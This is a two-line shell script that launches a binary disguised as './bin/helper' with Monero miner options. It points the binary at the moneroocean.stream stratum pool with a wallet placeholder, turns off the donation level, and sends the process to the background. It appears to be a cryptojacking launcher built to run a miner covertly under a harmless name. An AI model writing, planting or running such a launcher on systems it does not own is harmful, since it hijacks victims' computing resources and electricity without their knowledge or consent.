#!/bin/sh
./bin/helper -o stratum+tcp://gulf.moneroocean.stream:10128 -u 44AbCdEf --donate-level 0 --background
